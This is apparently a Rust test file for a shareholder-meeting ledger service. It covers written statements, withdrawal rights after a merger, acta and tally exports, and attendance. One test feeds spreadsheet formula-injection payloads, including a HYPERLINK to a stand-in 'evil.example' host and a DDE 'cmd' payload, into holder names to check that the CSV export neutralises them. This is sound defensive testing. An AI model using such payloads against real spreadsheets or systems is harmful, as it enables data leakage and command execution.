//! The secretary and the auditor: what a new meeting records, written
//! statements, who may withdraw after a merger, and the downloads (the
//! tallies and the acta) made from the verified bundle.

use asamblea_rules::OptionIndex;
use asamblea_venue::staff::Role;
use asamblea_wire::{Choice, HolderVote, Id};
use axum::http::{Method, StatusCode};
use serde_json::{json, Value};

use super::fixture::{not_run, Api, DEMO_MEETING, DEMO_REGISTER, MERGER_MEETING, MERGER_REGISTER};

#[tokio::test]
async fn a_new_meeting_records_its_holders_names_and_its_meeting_file_in_the_ledger() {
    let api = Api::demo("described");
    let bundle = asamblea_venue::service::MeetingFiles::export(&api.dir).expect("the bundle");
    let options = asamblea_ledger::VerifyOptions::bundle_alone(&asamblea_venue::profiles::load_profile);
    let (_, state) =
        asamblea_ledger::verify_bundle_state(std::io::Cursor::new(bundle.encode()), &options, &mut |_, _| {})
            .expect("the bundle verifies");
    assert_eq!(state.description(), Some(DEMO_MEETING), "the meeting file, byte for byte");
    let meeting = state.meeting().unwrap();
    assert_eq!(state.names().len(), meeting.register().len(), "a name for every holder");
    let (_, first) = meeting.register().iter().next().unwrap();
    assert_eq!(first.id(), "NIT-800100200");
    assert_eq!(state.names()[0].as_str(), "Fondo de Pensiones Porvenir del Sur S.A.");
}

#[tokio::test]
async fn a_written_statement_is_a_signed_ledger_event_of_a_present_attendee_about_an_item() {
    let api = Api::demo("statements");
    api.check_in_a_quorum().await;
    let text = "Dejo constancia de mi voto en contra:\r\nlos estados no incluyen la provisión.  ";
    let body = json!({ "item": "item-2", "person": "NIT-800100200", "text": text });
    let recorded = api.ok(Method::POST, "/api/v1/statements", "secretary", Some(body.clone())).await;
    let seq = recorded["seq"].as_u64().unwrap();
    let listed = api.ok(Method::GET, "/api/v1/statements", "auditor", None).await;
    let statement = &listed["statements"][0];
    assert_eq!(
        statement["text"],
        "Dejo constancia de mi voto en contra:\nlos estados no incluyen la provisión."
    );
    assert_eq!(
        (statement["item"].as_str(), statement["person"].as_str()),
        (Some("item-2"), Some("NIT-800100200"))
    );
    assert!(statement["title"].as_str().unwrap().starts_with("Estados financieros"), "{statement}");
    assert!(!statement["name"].as_str().unwrap().is_empty());
    // Refused, saying why, and nothing recorded: someone absent, an item
    // not on the agenda, no words, a tab; and the auditor signs nothing.
    let absent = api.holders("cc-").await.holders.into_iter().find(|h| !h.present).unwrap().id;
    for (body, status, code) in [
        (
            json!({ "item": "item-2", "person": absent, "text": "x" }),
            StatusCode::UNPROCESSABLE_ENTITY,
            "not-an-attendee",
        ),
        (
            json!({ "item": "item-99", "person": "NIT-800100200", "text": "x" }),
            StatusCode::UNPROCESSABLE_ENTITY,
            "not-on-agenda",
        ),
        (
            json!({ "item": "item-2", "person": "NIT-800100200", "text": "   " }),
            StatusCode::BAD_REQUEST,
            "bad-request",
        ),
        (
            json!({ "item": "item-2", "person": "NIT-800100200", "text": "a\tb" }),
            StatusCode::BAD_REQUEST,
            "bad-request",
        ),
        (
            json!({ "item": "item-2", "person": "NIT-800100200", "text": "x".repeat(4_001) }),
            StatusCode::BAD_REQUEST,
            "bad-request",
        ),
    ] {
        let (got, value) =
            api.call(Method::POST, "/api/v1/statements", "secretary", Some(body.clone())).await;
        assert_eq!((got, value["error"]["code"].as_str()), (status, Some(code)), "{body}: {value}");
        assert!(value["error"]["message"].as_str().is_some_and(|m| !m.is_empty()));
    }
    let (got, _) = api.call(Method::POST, "/api/v1/statements", "auditor", Some(body)).await;
    assert_eq!(got, StatusCode::FORBIDDEN);
    let listed = api.ok(Method::GET, "/api/v1/statements", "secretary", None).await;
    assert_eq!(listed["statements"].as_array().unwrap().len(), 1, "the refusals recorded nothing");
    // In the exported bundle, signed by the secretary's key, and verified.
    let bundle = asamblea_venue::service::MeetingFiles::export(&api.dir).expect("the bundle");
    let record = asamblea_wire::EventRecord::decode(&bundle.records[seq as usize - 1].0).unwrap();
    assert!(matches!(record.event.body, asamblea_wire::EventBody::StatementRecorded { .. }));
    let options = asamblea_ledger::VerifyOptions::bundle_alone(&asamblea_venue::profiles::load_profile);
    let (_, state) =
        asamblea_ledger::verify_bundle_state(std::io::Cursor::new(bundle.encode()), &options, &mut |_, _| {})
            .expect("the bundle verifies");
    assert_eq!(state.statements().len(), 1);
    assert_eq!(
        state.staff_member(&record.signer).map(|(role, _)| role),
        Some(asamblea_wire::StaffRole::Secretary)
    );
}

#[tokio::test]
async fn the_secretary_reads_who_may_withdraw_with_names_and_shares_after_a_merger() {
    let api = Api::new("withdrawal", MERGER_MEETING, MERGER_REGISTER);
    for holder in ["A-1", "B-2"] {
        api.check_in(holder).await;
    }
    api.install().await;
    api.ok(Method::POST, "/api/v1/items/fusion/open", "chair", None).await;
    for (holder, option) in [("A-1", OptionIndex::FOR), ("B-2", OptionIndex::AGAINST)] {
        let credential = api.badge(holder).await;
        let vote = HolderVote { holder: Id::new(holder).unwrap(), choice: Choice::Whole(option) };
        api.ok(Method::POST, "/api/v1/ballots", "kiosk", Some(api.ballot(&credential, "fusion", vec![vote])))
            .await;
    }
    api.ok(Method::POST, "/api/v1/items/fusion/close", "chair", None).await;
    let minutes = api.ok(Method::GET, "/api/v1/minutes", "secretary", None).await;
    let item = &minutes["items"][0];
    assert_eq!(item["id"], "fusion");
    // The dissenter and the absent holder, with their names and shares; not the holder who voted for.
    let may: Vec<(String, String, u64)> = item["withdrawal"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            (
                h["id"].as_str().unwrap().into(),
                h["name"].as_str().unwrap().into(),
                h["shares"]["ORD"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        may,
        vec![("B-2".into(), "Bernardo Ruiz".into(), 300), ("C-3".into(), "Carmen Díaz".into(), 200)]
    );

    // The acta carries them, with a refused power and a written statement,
    // in the PDF the secretary downloads.
    let wanting = json!({ "agent": "X-9", "represents": ["C-3"], "as": "proxy", "power_document": "sin firma", "power_rejected": true });
    api.ok(Method::POST, "/api/v1/checkins", "operator", Some(wanting)).await;
    let statement = json!({ "item": "fusion", "person": "B-2", "text": "Me opongo a la fusión y me reservo el derecho de retiro." });
    api.ok(Method::POST, "/api/v1/statements", "secretary", Some(statement)).await;
    let (status, bytes) = api.bytes_as("/api/v1/exports/acta.pdf", Role::Secretary).await;
    assert_eq!(status, StatusCode::OK);
    assert!(bytes.starts_with(b"%PDF-"), "a PDF");
    let pdf = api.dir.with_extension("acta.pdf");
    std::fs::write(&pdf, &bytes).unwrap();
    let Ok(text) = std::process::Command::new("pdftotext").arg(&pdf).arg("-").output() else {
        return not_run(
            "api::secretary::the_secretary_reads_who_may_withdraw…: the acta's PDF read by poppler",
            "no pdftotext (apt-get install poppler-utils)",
        );
    };
    let text = String::from_utf8_lossy(&text.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
    for expected in [
        "ASAMBLEA GENERAL EXTRAORDINARIA",
        "en segunda convocatoria",
        "Fusión por absorción de Filial S.A.S.",
        "Pueden ejercer el derecho de retiro los accionistas ausentes y los disidentes (Ley 222 de 1995, arts. 12 a 17), dentro de los ocho días siguientes a la decisión (art. 14): Documento Nombre Acciones Motivo B-2 Bernardo Ruiz 300 votó en contra C-3 Carmen Díaz 200 ausente",
        "Poderes rechazados (arts. 184 y 185 C.Co.)",
        "sin firma",
        "Me opongo a la fusión y me reservo el derecho de retiro.",
    ] {
        assert!(text.contains(expected), "the acta lacks «{expected}»: {text}");
    }
}

#[tokio::test]
async fn the_secretary_downloads_the_tallies_made_from_the_verified_bundle() {
    let api = Api::demo("downloads");
    api.check_in_a_quorum().await;
    api.install().await;
    api.ok(Method::POST, "/api/v1/items/item-1/open", "chair", None).await;
    api.ok(Method::POST, "/api/v1/items/item-1/close", "chair", None).await;
    let (status, json) = api.text_as("/api/v1/exports/resultados.json", Role::Secretary).await;
    assert_eq!(status, StatusCode::OK, "{json}");
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["schema"], "asamblea-resultados/2");
    assert_eq!(json["tables"]["puntos"][0]["item"], "item-1");
    assert_eq!(json["tables"]["puntos"][0]["decision"], "NO APROBADO");
    let (status, csv) = api.text_as("/api/v1/exports/resultados.csv?tabla=asistencia", Role::Auditor).await;
    assert_eq!(status, StatusCode::OK);
    assert!(csv.starts_with("\u{feff}asistente: documento (attendee: id);asistente (attendee);"), "{csv}");
    assert!(
        csv.contains(
            "NIT-800100200;Fondo de Pensiones Porvenir del Sur S.A. (NIT-800100200);en persona;\
             NIT-800100200;Fondo de Pensiones Porvenir del Sur S.A.;18000000;0;"
        ),
        "{csv}"
    );
    // Each table's CSV is saved under a name of its own: a browser that
    // downloads them all keeps them all.
    let mut names = Vec::new();
    for table in ["puntos", "accionistas", "asistencia", "retiro", "listas"] {
        let path = format!("/api/v1/exports/resultados.csv?tabla={table}");
        names.push(api.saved_as(&path, Role::Secretary).await.unwrap_or_default());
    }
    assert_eq!(
        names,
        [
            "resultados-puntos.csv",
            "resultados-accionistas.csv",
            "resultados-asistencia.csv",
            "resultados-retiro.csv",
            "resultados-listas.csv"
        ]
    );
    assert_eq!(
        api.saved_as("/api/v1/exports/resultados.xlsx", Role::Secretary).await.as_deref(),
        Some("resultados.xlsx")
    );
    for (path, expected) in [
        ("/api/v1/exports/resultados.pdf", StatusCode::NOT_FOUND),
        ("/api/v1/exports/resultados.csv?tabla=nada", StatusCode::BAD_REQUEST),
    ] {
        assert_eq!(api.text_as(path, Role::Secretary).await.0, expected, "{path}");
    }
    assert_eq!(api.text_as("/api/v1/exports/resultados.json", Role::Chair).await.0, StatusCode::FORBIDDEN);
    // The acta draft, as `asamblea acta` makes it: a Word document (a zip).
    let (status, bytes) = api.bytes_as("/api/v1/exports/acta.docx", Role::Secretary).await;
    assert_eq!(status, StatusCode::OK);
    assert!(bytes.starts_with(b"PK\x03\x04"), "a zip archive");
}

#[tokio::test]
async fn a_name_or_id_a_spreadsheet_would_run_as_a_formula_is_downloaded_as_text() {
    let register = DEMO_REGISTER
        .replace(
            "NIT-800100200,\"Fondo de Pensiones Porvenir del Sur S.A.\"",
            "-1-1,\"=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\"",
        )
        .replace("\"Inversiones Alfa, S.A.S.\"", "\"+cmd|' /C calc'!A0\"")
        .replace("\"Fiduciaria Andina S.A. – Patrimonio Autónomo\"", "@SUM(1)");
    let api = Api::new("formulas", DEMO_MEETING, &register);
    for holder in ["-1-1", "NIT-800200300", "NIT-800300400"] {
        api.check_in(holder).await;
    }
    let (status, csv) = api.text_as("/api/v1/exports/resultados.csv?tabla=asistencia", Role::Secretary).await;
    assert_eq!(status, StatusCode::OK, "{csv}");
    for line in [
        "en persona;\"'-1-1\";\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"clic\"\")\";18000000;0;",
        "en persona;NIT-800200300;\"'+cmd|' /C calc'!A0\";9000000;4000000;",
        "en persona;NIT-800300400;\"'@SUM(1)\";6000000;0;",
    ] {
        assert!(csv.contains(line), "lacks {line:?}: {csv}");
    }
}

#[tokio::test]
async fn a_download_writes_its_bundle_through_no_link_or_file_at_a_name_chosen_in_advance() {
    let api = Api::demo("download-links");
    api.check_in_a_quorum().await;
    // Links, at the names the old downloads took in the temporary folder
    // (this process's number and a counter), to a file of another
    // account: none may receive the bundle.
    let target = api.dir.with_extension("target");
    std::fs::write(&target, b"").unwrap();
    let links: Vec<std::path::PathBuf> = (0..256)
        .map(|n| std::env::temp_dir().join(format!("asamblea-export-{}-{n}.bundle", std::process::id())))
        .filter(|link| std::os::unix::fs::symlink(&target, link).is_ok())
        .collect();
    let (status, json) = api.text_as("/api/v1/exports/resultados.json", Role::Secretary).await;
    let (acta, _) = api.bytes_as("/api/v1/exports/acta.docx", Role::Secretary).await;
    let written = std::fs::metadata(&target).unwrap().len();
    let kept = links.iter().filter(|link| link.is_symlink()).count();
    for link in &links {
        let _ = std::fs::remove_file(link);
    }
    let _ = std::fs::remove_file(&target);
    assert_eq!((status, acta), (StatusCode::OK, StatusCode::OK), "{json}");
    assert_eq!(written, 0, "{written} bytes of the bundle were written through a link");
    assert_eq!(kept, links.len(), "a link was removed");
    // Nor is anything left in the meeting's own temporary folder.
    let left: Vec<_> =
        std::fs::read_dir(api.dir.join("tmp")).map(|d| d.flatten().count()).into_iter().collect();
    assert!(left.iter().all(|&n| n == 0), "{left:?}");
}

/// Issue 24's walk-out voter (a holder of the demo register here): a
/// holder checks in, votes on item 1 and
/// leaves before the end. The attendance as it happened has her — in the
/// `asistencia` export with her arrival and departure, in the acta's list
/// with her interval, and on the secretary's console — as the
/// `accionistas` export has her vote; and the acta counts who was present
/// at the installation (the first poll's opening, said) and at the close.
#[tokio::test]
async fn a_holder_who_voted_and_left_before_the_end_is_in_the_attendance() {
    let api = Api::demo("walk-out");
    api.check_in_a_quorum().await;
    api.check_in("CC-10015838").await;
    api.install().await;
    api.ok(Method::POST, "/api/v1/items/item-1/open", "chair", None).await;
    let credential = api.badge("CC-10015838").await;
    let vote =
        HolderVote { holder: Id::new("CC-10015838").unwrap(), choice: Choice::Whole(OptionIndex::FOR) };
    api.ok(Method::POST, "/api/v1/ballots", "kiosk", Some(api.ballot(&credential, "item-1", vec![vote])))
        .await;
    api.ok(Method::POST, "/api/v1/checkouts", "operator", Some(json!({ "person": "CC-10015838" }))).await;
    api.ok(Method::POST, "/api/v1/items/item-1/close", "chair", None).await;
    // The single seat (item-5): one holder votes, the others present do
    // not; its base is E, the shares present (R8, OQ8), everywhere.
    api.ok(Method::POST, "/api/v1/items/item-5/open", "chair", None).await;
    let largest = api.badge("NIT-800100200").await;
    let vote =
        HolderVote { holder: Id::new("NIT-800100200").unwrap(), choice: Choice::Whole(OptionIndex::list(0)) };
    api.ok(Method::POST, "/api/v1/ballots", "kiosk", Some(api.ballot(&largest, "item-5", vec![vote]))).await;
    api.ok(Method::POST, "/api/v1/items/item-5/close", "chair", None).await;

    let (status, json) = api.text_as("/api/v1/exports/resultados.json", Role::Secretary).await;
    assert_eq!(status, StatusCode::OK, "{json}");
    let json: Value = serde_json::from_str(&json).unwrap();
    let seat = json["tables"]["puntos"].as_array().unwrap().iter().find(|r| r["item"] == "item-5").unwrap();
    let status = api.ok(Method::GET, "/api/v1/status", "public", None).await;
    let present = status["quorum"]["present_shares"].as_u64().unwrap();
    assert_eq!(seat["base"], present, "the base is E, not the valid votes: {seat}");
    let base = asamblea_documents::numfmt::thousands(present);
    assert!(seat["why"].as_str().unwrap().contains(&format!("de una base de {base}")), "{seat}");
    let item = status["items"].as_array().unwrap().iter().find(|i| i["id"] == "item-5").unwrap();
    assert_eq!(item["election_base"], present, "{item}");
    let voter =
        json["tables"]["accionistas"].as_array().unwrap().iter().find(|r| r["holder"] == "CC-10015838");
    assert_eq!(voter.unwrap()["vote:item-1"], "a favor");
    let stays: Vec<&Value> = json["tables"]["asistencia"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["holder"] == "CC-10015838")
        .collect();
    assert_eq!(stays.len(), 1, "{}", json["tables"]["asistencia"]);
    let stay = stays[0];
    assert_eq!(
        (stay["person"].clone(), stay["capacity"].clone()),
        (json!("CC-10015838"), json!("en persona"))
    );
    let (arrived, left) = (stay["arrived_record"].as_u64().unwrap(), stay["left_record"].as_u64().unwrap());
    assert!(arrived < left, "{stay}");
    assert!(stay["left"].as_str().unwrap().len() == "2027-03-30 10:00".len(), "{stay}");
    // The holders present at the end are in it too, with no departure.
    let nit =
        json["tables"]["asistencia"].as_array().unwrap().iter().find(|r| r["holder"] == "NIT-800100200");
    assert_eq!(nit.unwrap()["left"], "");

    // The secretary's console lists her, with her interval.
    let (cookie, _) = super::fixture::sign_in(&api, Role::Secretary).await;
    let (status, _, page) =
        super::fixture::browser(&api, Method::GET, "/secretaria", Some(&cookie), None, None).await;
    assert_eq!(status, StatusCode::OK);
    let row =
        page.split("<tr>").find(|row| row.contains("(CC-10015838)")).unwrap_or_else(|| panic!("{page}"));
    assert!(row.contains(" a ") && !row.contains("hasta el cierre"), "{row}");

    // The acta's list, read from its PDF.
    let (status, bytes) = api.bytes_as("/api/v1/exports/acta.pdf", Role::Secretary).await;
    assert_eq!(status, StatusCode::OK);
    let pdf = api.dir.with_extension("walk-out.pdf");
    std::fs::write(&pdf, &bytes).unwrap();
    let Ok(text) = std::process::Command::new("pdftotext").arg(&pdf).arg("-").output() else {
        return not_run(
            "api::secretary::a_holder_who_voted_and_left_before_the_end_is_in_the_attendance: the acta's PDF",
            "no pdftotext (apt-get install poppler-utils)",
        );
    };
    let text = String::from_utf8_lossy(&text.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
    for expected in [
        "4. Asistentes",
        "(CC-10015838)",
        "según el acto de instalación del libro electrónico",
        "Instalación",
        "Cierre",
        "A favor",
        "En contra",
    ] {
        assert!(text.contains(expected), "the acta lacks «{expected}»: {text}");
    }
    assert!(!text.contains("Sí "), "the law's words, not «Sí»: {text}");
}
